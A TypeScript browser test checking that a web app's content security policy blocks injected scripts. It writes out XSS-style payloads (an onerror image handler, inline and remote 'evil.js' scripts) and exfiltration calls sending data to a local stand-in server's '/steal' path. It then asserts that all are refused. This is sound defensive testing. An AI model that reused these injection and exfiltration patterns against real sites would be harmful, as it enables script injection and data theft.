/** The pages under their content security policy, in a real browser: what an injected script could try is refused. */
import { createServer } from 'node:http';
import { once } from 'node:events';
import type { AddressInfo } from 'node:net';
import { expect } from 'vitest';
import { describeApp, it } from './app-test.ts';

/** The address of a server that stands for somewhere else, and how often it was asked. */
async function startStranger() {
  let asked = 0;
  const server = createServer((_request, response) => {
    asked += 1;
    response.end('stranger');
  });
  server.listen(0, '127.0.0.1');
  await once(server, 'listening');
  const address = `http://127.0.0.1:${(server.address() as AddressInfo).port}`;
  return { address, asked: () => asked, close: () => server.close() };
}

describeApp('the content security policy', () => {
  it('lets an injected script neither run, nor evaluate text, nor send anything anywhere', async ({ app }) => {
    const stranger = await startStranger();
    try {
      const page = await app.open();
      await page.getByRole('button').first().waitFor();
      const refused = await page.evaluate(async (elsewhere) => {
        const violations: string[] = [];
        document.addEventListener('securitypolicyviolation', (event) => violations.push(event.effectiveDirective));
        const attempts: (() => unknown)[] = [
          // The evaluation itself is the debugger's, which the policy does not bind; what it leaves behind is the page's.
          () => (setTimeout as unknown as (text: string) => void)('globalThis.ranInline = true'),
          () => document.body.insertAdjacentHTML('beforeend', '<img src="x" onerror="globalThis.ranInline = true">'),
          () => {
            const script = document.createElement('script');
            script.textContent = 'globalThis.ranInline = true';
            document.head.append(script);
          },
          () => {
            const script = document.createElement('script');
            script.src = `${elsewhere}/evil.js`;
            document.head.append(script);
          },
          () => fetch(`${elsewhere}/steal`).catch(() => null),
          () => navigator.sendBeacon(`${elsewhere}/steal`, 'secret'),
          () => new WebSocket(elsewhere.replace('http', 'ws')),
          () => {
            new Image().src = `${elsewhere}/steal.png`;
          },
          () => {
            const frame = document.createElement('iframe');
            frame.src = elsewhere;
            document.body.append(frame);
          },
          () => {
            const form = document.createElement('form');
            form.action = elsewhere;
            form.method = 'post';
            document.body.append(form);
            form.submit();
          },
        ];
        for (const attempt of attempts) {
          try {
            await attempt();
          } catch {
            // Refused.
          }
        }
        await new Promise((resolve) => setTimeout(resolve, 300));
        return { violations, ranInline: 'ranInline' in globalThis };
      }, stranger.address);
      expect(refused.ranInline).toBe(false);
      expect(new Set(refused.violations)).toEqual(
        new Set([
          'script-src',
          'script-src-attr',
          'script-src-elem',
          'connect-src',
          'img-src',
          'frame-src',
          'form-action',
        ]),
      );
      expect(stranger.asked()).toBe(0);
      app.takeFaults();
    } finally {
      stranger.close();
    }
  });
});
